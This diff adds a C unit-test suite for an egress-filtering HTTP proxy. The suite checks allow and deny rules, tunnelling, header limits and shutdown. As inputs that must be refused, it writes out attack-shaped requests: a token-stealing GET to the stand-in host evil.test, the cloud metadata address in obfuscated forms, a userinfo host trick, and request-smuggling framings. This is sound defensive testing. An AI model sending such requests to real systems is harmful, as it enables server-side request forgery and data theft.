@@ -1,6 +1,588 @@
+/*
+ * test_proxy.c - the per-session egress proxy against a local upstream
+ * on 127.0.0.1: allowed requests pass, are rewritten and counted;
+ * refused ones get 403, are reported, and never reach the upstream;
+ * CONNECT and Upgrade tunnel both ways; ceilings and the connection
+ * limit hold; stop leaves no thread or fd behind.
+ *
+ * Every address used is 127.0.0.1 (names reach it through the policy's
+ * resolver overrides); addresses that must be refused are refused
+ * before any connection is made.
+ */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
 #include <cmocka.h>
-int main(void) { return 0; }
+
+#include "policy/egress.h"
+#include "test_proxy_server.h"
+
+#define MAX_EVENTS 32
+
+/* Refusals the proxy reported, copied from its thread. */
+struct events {
+	pthread_mutex_t lock;
+	int n;
+	char rule[MAX_EVENTS][64];
+	char host[MAX_EVENTS][256];
+	char addr[MAX_EVENTS][64];
+	char url[MAX_EVENTS][512];
+	char layer[MAX_EVENTS][16];
+	char session[MAX_EVENTS][64];
+};
+
+static void on_refusal(void *user, const struct policy_refusal *r)
+{
+	struct events *ev = user;
+
+	pthread_mutex_lock(&ev->lock);
+	if (ev->n < MAX_EVENTS) {
+		snprintf(ev->rule[ev->n], 64, "%s", r->rule);
+		snprintf(ev->host[ev->n], 256, "%s", r->host);
+		snprintf(ev->addr[ev->n], 64, "%s", r->addr);
+		snprintf(ev->url[ev->n], 512, "%s", r->url);
+		snprintf(ev->layer[ev->n], 16, "%s", r->layer);
+		snprintf(ev->session[ev->n], 64, "%s", r->session);
+		assert_non_null(r->time);
+		assert_true(r->time_unix_ms > 0);
+		ev->n++;
+	}
+	pthread_mutex_unlock(&ev->lock);
+}
+
+/* One test's world: an HTTP upstream, an echo upstream, a policy and a
+ * proxy. */
+struct world {
+	struct test_server http;
+	struct test_server echo;
+	struct policy_egress *policy;
+	struct policy_proxy *proxy;
+	struct events ev;
+	int port; /* the proxy's */
+};
+
+/* Starts the upstreams and a proxy with policy_json, in which %d is
+ * never used: names map to 127.0.0.1 through "hosts". */
+static void world_start(struct world *w, const char *policy_json,
+                        const struct policy_proxy_options *opt)
+{
+	struct policy_proxy_options o;
+	json_t *j;
+	char err[512] = "";
+
+	memset(w, 0, sizeof(*w));
+	pthread_mutex_init(&w->ev.lock, NULL);
+	assert_int_equal(ts_start(&w->http, "127.0.0.1", 0, 0), 0);
+	assert_int_equal(ts_start(&w->echo, "127.0.0.1", 0, 1), 0);
+	j = json_loads(policy_json, 0, NULL);
+	assert_non_null(j);
+	if (policy_egress_parse(j, &w->policy, err, sizeof(err)) != 0)
+		fail_msg("policy: %s", err);
+	json_decref(j);
+	if (opt)
+		o = *opt;
+	else
+		memset(&o, 0, sizeof(o));
+	o.session_id = "sess-1";
+	o.on_refusal = on_refusal;
+	o.user = &w->ev;
+	if (policy_proxy_start(w->policy, &o, &w->proxy, err, sizeof(err)) != 0)
+		fail_msg("proxy: %s", err);
+	w->port = policy_proxy_port(w->proxy);
+	assert_true(w->port > 0);
+}
+
+static void world_stop(struct world *w)
+{
+	policy_proxy_stop(w->proxy);
+	ts_stop(&w->http);
+	ts_stop(&w->echo);
+	policy_egress_free(w->policy);
+	pthread_mutex_destroy(&w->ev.lock);
+}
+
+/* Sends req (printf format; the upstream ports are available as %1$d for
+ * HTTP) on a new connection and reads everything until close. */
+static size_t roundtrip(struct world *w, const char *req, char *resp, size_t cap)
+{
+	int fd = tc_connect(w->port);
+	size_t n;
+
+	assert_true(fd >= 0);
+	assert_int_equal(ts_send_str(fd, req), 0);
+	n = tc_read_all(fd, resp, cap);
+	close(fd);
+	return n;
+}
+
+static const char *const shop_policy =
+    "{\"allow\": [\"shop.test\", \"*.shop.test\"], \"deny\": [\"ads.shop.test\"],"
+    " \"allow_private\": [\"127.0.0.1\"],"
+    " \"hosts\": {\"shop.test\": \"127.0.0.1\", \"ads.shop.test\": \"127.0.0.1\","
+    " \"evil.test\": \"127.0.0.1\", \"cdn.shop.test\": \"127.0.0.1\"}}";
+
+static void test_allowed_get_passes_and_is_counted(void **state)
+{
+	struct world w;
+	struct policy_proxy_stats st;
+	char req[1024];
+	char resp[8192];
+	int fd;
+
+	(void)state;
+	world_start(&w, shop_policy, NULL);
+	fd = tc_connect(w.port);
+	assert_true(fd >= 0);
+	snprintf(req, sizeof(req),
+	         "GET http://shop.test:%d/hello?q=1#frag HTTP/1.1\r\nHost: wrong.test\r\n"
+	         "Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic c2VjcmV0\r\n"
+	         "Accept: */*\r\n\r\n", w.http.port);
+	assert_int_equal(ts_send_str(fd, req), 0);
+	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
+	assert_non_null(strstr(resp, "hello from upstream: /hello?q=1"));
+	assert_non_null(strstr(resp, "Connection: keep-alive"));
+	assert_int_equal(atomic_load(&w.http.hits), 1);
+	/* the upstream saw origin-form, the right Host, no Proxy-* fields */
+	pthread_mutex_lock(&w.http.lock);
+	assert_true(strncmp(w.http.last_head, "GET /hello?q=1 HTTP/1.1\r\n", 25) == 0);
+	snprintf(req, sizeof(req), "\r\nHost: shop.test:%d\r\n", w.http.port);
+	assert_non_null(strstr(w.http.last_head, req));
+	assert_null(strcasestr(w.http.last_head, "proxy-"));
+	assert_null(strstr(w.http.last_head, "wrong.test"));
+	assert_non_null(strstr(w.http.last_head, "Accept: */*"));
+	pthread_mutex_unlock(&w.http.lock);
+
+	/* the client connection is kept: a POST with a body, then two
+	 * pipelined requests in one write */
+	snprintf(req, sizeof(req),
+	         "POST http://cdn.shop.test:%d/form HTTP/1.1\r\nHost: cdn.shop.test\r\n"
+	         "Content-Length: 11\r\n\r\nhello=world", w.http.port);
+	assert_int_equal(ts_send_str(fd, req), 0);
+	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, "hello from upstream: /form (body 11 bytes)"));
+	snprintf(req, sizeof(req),
+	         "GET http://shop.test:%d/a HTTP/1.1\r\nHost: shop.test\r\n\r\n"
+	         "GET http://shop.test:%d/b HTTP/1.1\r\nHost: shop.test\r\n\r\n",
+	         w.http.port, w.http.port);
+	assert_int_equal(ts_send_str(fd, req), 0);
+	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, "upstream: /a "));
+	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, "upstream: /b "));
+	close(fd);
+	assert_int_equal(atomic_load(&w.http.hits), 4);
+
+	policy_proxy_get_stats(w.proxy, &st);
+	assert_int_equal(st.requests, 4);
+	assert_int_equal(st.refused, 0);
+	assert_int_equal(st.connections, 1);
+	assert_true(st.bytes_up > 200);
+	assert_true(st.bytes_down > 400);
+	assert_int_equal(w.ev.n, 0);
+	world_stop(&w);
+}
+
+static void test_denied_host_gets_403(void **state)
+{
+	struct world w;
+	struct policy_proxy_stats st;
+	char req[1024];
+	char resp[8192];
+
+	(void)state;
+	world_start(&w, shop_policy, NULL);
+	snprintf(req, sizeof(req), "GET http://evil.test:%d/steal?token=abc HTTP/1.1\r\n"
+	         "Host: evil.test\r\n\r\n", w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
+	assert_non_null(strstr(resp, "X-Glassbox-Rule: egress-not-allowed"));
+	assert_non_null(strstr(resp, "(rule egress-not-allowed)"));
+	assert_null(strstr(resp, "shop.test")); /* no other policy entry leaks */
+
+	snprintf(req, sizeof(req), "GET http://ads.shop.test:%d/x.js HTTP/1.1\r\n"
+	         "Host: ads.shop.test\r\n\r\n", w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
+	assert_non_null(strstr(resp, "egress-deny"));
+
+	/* the metadata address, spelled as a number: refused before connecting */
+	roundtrip(&w, "GET http://2852039166/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n", resp,
+	          sizeof(resp));
+	assert_non_null(strstr(resp, "403"));
+	assert_non_null(strstr(resp, "addr-metadata"));
+
+	/* a URL with userinfo reaches the host after the '@' */
+	snprintf(req, sizeof(req), "GET http://shop.test@evil.test:%d/ HTTP/1.1\r\n"
+	         "Host: shop.test\r\n\r\n", w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "403"));
+
+	assert_int_equal(atomic_load(&w.http.hits), 0);
+	pthread_mutex_lock(&w.ev.lock);
+	assert_int_equal(w.ev.n, 4);
+	assert_string_equal(w.ev.rule[0], "egress-not-allowed");
+	assert_string_equal(w.ev.host[0], "evil.test");
+	assert_string_equal(w.ev.layer[0], "proxy");
+	assert_string_equal(w.ev.session[0], "sess-1");
+	assert_non_null(strstr(w.ev.url[0], "http://evil.test:"));
+	assert_string_equal(w.ev.rule[1], "egress-deny");
+	assert_string_equal(w.ev.rule[2], "addr-metadata");
+	assert_string_equal(w.ev.addr[2], "169.254.169.254");
+	pthread_mutex_unlock(&w.ev.lock);
+	policy_proxy_get_stats(w.proxy, &st);
+	assert_int_equal(st.refused, 4);
+	world_stop(&w);
+}
+
+static void test_connect_tunnels_both_ways(void **state)
+{
+	struct world w;
+	struct policy_proxy_stats st;
+	char req[256];
+	char resp[4096];
+	char big[100000];
+	char back[100000];
+	size_t i;
+	int fd;
+
+	(void)state;
+	world_start(&w, shop_policy, NULL);
+	fd = tc_connect(w.port);
+	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\nHost: shop.test:%d\r\n\r\n",
+	         w.echo.port, w.echo.port);
+	assert_int_equal(ts_send_str(fd, req), 0);
+	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, "HTTP/1.1 200 Connection established"));
+	for (i = 0; i < sizeof(big); i++)
+		big[i] = (char)('a' + i % 26);
+	assert_int_equal(ts_send_all(fd, big, sizeof(big)), 0);
+	assert_int_equal(tc_read_exact(fd, back, sizeof(back)), 0);
+	assert_memory_equal(big, back, sizeof(big));
+	/* half-close: the upstream sees EOF, then so do we */
+	shutdown(fd, SHUT_WR);
+	assert_int_equal(tc_read_all(fd, resp, sizeof(resp)), 0);
+	close(fd);
+	assert_int_equal(atomic_load(&w.echo.hits), 1);
+	policy_proxy_get_stats(w.proxy, &st);
+	assert_true(st.bytes_up >= sizeof(big));
+	assert_true(st.bytes_down >= sizeof(big));
+
+	/* refused CONNECTs: not on the list, and an address never reachable */
+	snprintf(req, sizeof(req), "CONNECT evil.test:%d HTTP/1.1\r\n\r\n", w.echo.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
+	assert_non_null(strstr(resp, "egress-not-allowed"));
+	roundtrip(&w, "CONNECT [::ffff:169.254.169.254]:443 HTTP/1.1\r\n\r\n", resp, sizeof(resp));
+	assert_non_null(strstr(resp, "addr-metadata"));
+	roundtrip(&w, "CONNECT shop.test HTTP/1.1\r\n\r\n", resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 400"));
+	assert_int_equal(atomic_load(&w.echo.hits), 1);
+	world_stop(&w);
+}
+
+static void test_upgrade_tunnels_after_101(void **state)
+{
+	struct world w;
+	char req[512];
+	char resp[4096];
+	int fd;
+
+	(void)state;
+	world_start(&w, shop_policy, NULL);
+	fd = tc_connect(w.port);
+	snprintf(req, sizeof(req), "GET http://shop.test:%d/ws HTTP/1.1\r\nHost: shop.test\r\n"
+	         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", w.http.port);
+	assert_int_equal(ts_send_str(fd, req), 0);
+	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, "HTTP/1.1 101"));
+	assert_non_null(strstr(resp, "Upgrade: websocket"));
+	pthread_mutex_lock(&w.http.lock);
+	assert_non_null(strstr(w.http.last_head, "Connection: Upgrade\r\n"));
+	assert_non_null(strstr(w.http.last_head, "Upgrade: websocket\r\n"));
+	assert_non_null(strstr(w.http.last_head, "Sec-WebSocket-Key: "));
+	pthread_mutex_unlock(&w.http.lock);
+	assert_int_equal(ts_send_str(fd, "frame-1"), 0);
+	assert_int_equal(tc_read_exact(fd, resp, 7), 0);
+	assert_memory_equal(resp, "frame-1", 7);
+	close(fd);
+	world_stop(&w);
+}
+
+static void test_loopback_override_needs_naming(void **state)
+{
+	struct world w;
+	char req[512];
+	char resp[4096];
+
+	(void)state;
+	/* shop.test is allowed, but its override is loopback, not named */
+	world_start(&w, "{\"allow\": [\"shop.test\"], \"hosts\": {\"shop.test\": \"127.0.0.1\"}}",
+	            NULL);
+	snprintf(req, sizeof(req), "GET http://shop.test:%d/ HTTP/1.1\r\nHost: shop.test\r\n\r\n",
+	         w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 403"));
+	assert_non_null(strstr(resp, "addr-loopback"));
+	assert_non_null(strstr(resp, "resolved to 127.0.0.1"));
+	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\n\r\n", w.echo.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "addr-loopback"));
+	assert_int_equal(atomic_load(&w.http.hits), 0);
+	assert_int_equal(atomic_load(&w.echo.hits), 0);
+	pthread_mutex_lock(&w.ev.lock);
+	assert_int_equal(w.ev.n, 2);
+	assert_string_equal(w.ev.rule[0], "addr-loopback");
+	assert_string_equal(w.ev.addr[0], "127.0.0.1");
+	assert_string_equal(w.ev.host[0], "shop.test");
+	pthread_mutex_unlock(&w.ev.lock);
+	world_stop(&w);
+
+	/* named: allowed */
+	world_start(&w, "{\"allow\": [\"shop.test\"], \"allow_private\": [\"127.0.0.0/8\"],"
+	                " \"hosts\": {\"shop.test\": \"127.0.0.1\"}}", NULL);
+	snprintf(req, sizeof(req), "GET http://shop.test:%d/ok HTTP/1.1\r\nHost: shop.test\r\n"
+	         "Connection: close\r\n\r\n", w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
+	assert_non_null(strstr(resp, "Connection: close"));
+	assert_int_equal(atomic_load(&w.http.hits), 1);
+	world_stop(&w);
+}
+
+static void test_bad_and_oversized_requests(void **state)
+{
+	struct world w;
+	struct policy_proxy_options o;
+	char req[512];
+	char resp[4096];
+	char *big;
+	size_t i;
+	int fd;
+
+	(void)state;
+	memset(&o, 0, sizeof(o));
+	o.max_header_bytes = 8192;
+	o.header_timeout_ms = 400;
+	world_start(&w, shop_policy, &o);
+
+	/* a head larger than the ceiling: 431, never forwarded */
+	big = malloc(20000);
+	snprintf(big, 20000, "GET http://shop.test:%d/ HTTP/1.1\r\nX-Big: ", w.http.port);
+	for (i = strlen(big); i < 19000; i++)
+		big[i] = 'x';
+	big[i] = '\0';
+	fd = tc_connect(w.port);
+	ts_send_str(fd, big); /* may fail part-way once the proxy answers and closes */
+	tc_read_all(fd, resp, sizeof(resp));
+	close(fd);
+	free(big);
+	assert_non_null(strstr(resp, "HTTP/1.1 431"));
+
+	/* too many fields */
+	big = malloc(8000);
+	snprintf(big, 8000, "GET http://shop.test:%d/ HTTP/1.1\r\n", w.http.port);
+	for (i = 0; i < 200; i++)
+		strcat(big, "A: b\r\n");
+	strcat(big, "\r\n");
+	roundtrip(&w, big, resp, sizeof(resp));
+	free(big);
+	assert_non_null(strstr(resp, "HTTP/1.1 431"));
+
+	roundtrip(&w, "GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n", resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 400"));
+	assert_non_null(strstr(resp, "absolute-form"));
+	roundtrip(&w, "GET http://shop.test/ HTTP/2.0\r\n\r\n", resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 400"));
+	roundtrip(&w, "GET http://shop.test/ HTTP/1.1\r\n folded: x\r\n\r\n", resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 400"));
+	roundtrip(&w, "GET https://shop.test/ HTTP/1.1\r\n\r\n", resp, sizeof(resp));
+	assert_non_null(strstr(resp, "use CONNECT"));
+	/* ambiguous framing (request smuggling) */
+	snprintf(req, sizeof(req), "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
+	         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 400"));
+	snprintf(req, sizeof(req), "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
+	         "Content-Length: 5\r\n\r\nabcde", w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 400"));
+	/* a head that never ends: 408 after the header timeout */
+	fd = tc_connect(w.port);
+	ts_send_str(fd, "GET http://shop.test/ HTTP/1.1\r\nHost: sh");
+	tc_read_all(fd, resp, sizeof(resp));
+	close(fd);
+	assert_non_null(strstr(resp, "HTTP/1.1 408"));
+	assert_int_equal(atomic_load(&w.http.hits), 0);
+	world_stop(&w);
+}
+
+static void test_connection_limit(void **state)
+{
+	struct world w;
+	struct policy_proxy_options o;
+	struct policy_proxy_stats st;
+	char req[512];
+	char resp[4096];
+	int a;
+	int b;
+	int c;
+	int i;
+
+	(void)state;
+	memset(&o, 0, sizeof(o));
+	o.max_connections = 2;
+	world_start(&w, shop_policy, &o);
+	a = tc_connect(w.port);
+	b = tc_connect(w.port);
+	/* the proxy has accepted both once they are counted open */
+	for (i = 0; i < 200; i++) {
+		policy_proxy_get_stats(w.proxy, &st);
+		if (st.connections_open == 2)
+			break;
+		usleep(10000);
+	}
+	assert_int_equal(st.connections_open, 2);
+	c = tc_connect(w.port);
+	tc_read_all(c, resp, sizeof(resp));
+	close(c);
+	assert_non_null(strstr(resp, "HTTP/1.1 503"));
+	assert_non_null(strstr(resp, "proxy-connection-limit"));
+	policy_proxy_get_stats(w.proxy, &st);
+	assert_int_equal(st.over_limit, 1);
+	pthread_mutex_lock(&w.ev.lock);
+	assert_int_equal(w.ev.n, 1);
+	assert_string_equal(w.ev.rule[0], "proxy-connection-limit");
+	pthread_mutex_unlock(&w.ev.lock);
+
+	/* one closes: a new one is served */
+	close(a);
+	for (i = 0; i < 200; i++) {
+		policy_proxy_get_stats(w.proxy, &st);
+		if (st.connections_open == 1)
+			break;
+		usleep(10000);
+	}
+	snprintf(req, sizeof(req), "GET http://shop.test:%d/ HTTP/1.1\r\nConnection: close\r\n\r\n",
+	         w.http.port);
+	roundtrip(&w, req, resp, sizeof(resp));
+	assert_non_null(strstr(resp, "HTTP/1.1 200"));
+	close(b);
+	world_stop(&w);
+}
+
+static void test_stop_with_connections_open(void **state)
+{
+	struct test_server echo;
+	struct policy_egress *p = NULL;
+	struct policy_proxy *px = NULL;
+	struct policy_proxy_options o;
+	char err[256];
+	char req[256];
+	char resp[4096];
+	json_t *j;
+	int fds0;
+	int threads0;
+	int tunnel;
+	int idle;
+	int partial;
+	int i;
+
+	(void)state;
+	assert_int_equal(ts_start(&echo, "127.0.0.1", 0, 1), 0);
+	j = json_loads(shop_policy, 0, NULL);
+	assert_int_equal(policy_egress_parse(j, &p, err, sizeof(err)), 0);
+	json_decref(j);
+	fds0 = count_dir("/proc/self/fd");
+	threads0 = count_dir("/proc/self/task");
+	memset(&o, 0, sizeof(o));
+	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), 0);
+	/* one loop thread; the resolver starts only when DNS is needed */
+	assert_int_equal(count_dir("/proc/self/task"), threads0 + 1);
+
+	tunnel = tc_connect(policy_proxy_port(px));
+	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\n\r\n", echo.port);
+	ts_send_str(tunnel, req);
+	assert_true(tc_read_response(tunnel, resp, sizeof(resp)) > 0);
+	assert_non_null(strstr(resp, " 200 "));
+	idle = tc_connect(policy_proxy_port(px));
+	partial = tc_connect(policy_proxy_port(px));
+	ts_send_str(partial, "GET http://shop.test/ HTTP/1.1\r\n");
+	usleep(100000);
+
+	policy_proxy_stop(px);
+	/* every client sees its connection closed */
+	assert_int_equal(tc_read_all(tunnel, resp, sizeof(resp)), 0);
+	assert_int_equal(tc_read_all(idle, resp, sizeof(resp)), 0);
+	assert_int_equal(tc_read_all(partial, resp, sizeof(resp)), 0);
+	close(tunnel);
+	close(idle);
+	close(partial);
+	/* the upstream's handler sees EOF and ends too: back to where we were */
+	for (i = 0; i < 300; i++) {
+		if (count_dir("/proc/self/fd") == fds0 && count_dir("/proc/self/task") == threads0)
+			break;
+		usleep(10000);
+	}
+	assert_int_equal(count_dir("/proc/self/fd"), fds0);
+	assert_int_equal(count_dir("/proc/self/task"), threads0);
+	ts_stop(&echo);
+	policy_egress_free(p);
+	policy_proxy_stop(NULL);
+}
+
+static void test_chromium_flags_and_options(void **state)
+{
+	struct policy_egress *p = NULL;
+	struct policy_proxy *px = NULL;
+	struct policy_proxy_options o;
+	struct policy_chromium_flags f;
+	char want[64];
+	char err[256] = "";
+	int i;
+	int seen = 0;
+
+	(void)state;
+	assert_int_equal(policy_egress_parse(NULL, &p, err, sizeof(err)), 0);
+	memset(&o, 0, sizeof(o));
+	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), 0);
+	policy_proxy_chromium_flags(px, &f);
+	snprintf(want, sizeof(want), "http://127.0.0.1:%d", policy_proxy_port(px));
+	assert_string_equal(f.proxy_server, want);
+	assert_string_equal(f.host_resolver_rules, "MAP * ~NOTFOUND , EXCLUDE 127.0.0.1");
+	for (i = 0; f.extra[i]; i++) {
+		seen |= !strcmp(f.extra[i], "--proxy-bypass-list=<-loopback>");
+		seen |= !strcmp(f.extra[i], "--webrtc-ip-handling-policy=disable_non_proxied_udp") << 1;
+		seen |= !strcmp(f.extra[i], "--disable-quic") << 2;
+	}
+	assert_int_equal(seen, 7);
+	policy_proxy_stop(px);
+
+	o.max_header_bytes = 10;
+	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), -POLICY_EINVAL);
+	assert_non_null(strstr(err, "max_header_bytes"));
+	o.max_header_bytes = 0;
+	o.listen_addr = "localhost";
+	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), -POLICY_EINVAL);
+	assert_non_null(strstr(err, "not an IP address"));
+	policy_egress_free(p);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_allowed_get_passes_and_is_counted),
+		cmocka_unit_test(test_denied_host_gets_403),
+		cmocka_unit_test(test_connect_tunnels_both_ways),
+		cmocka_unit_test(test_upgrade_tunnels_after_101),
+		cmocka_unit_test(test_loopback_override_needs_naming),
+		cmocka_unit_test(test_bad_and_oversized_requests),
+		cmocka_unit_test(test_connection_limit),
+		cmocka_unit_test(test_stop_with_connections_open),
+		cmocka_unit_test(test_chromium_flags_and_options),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
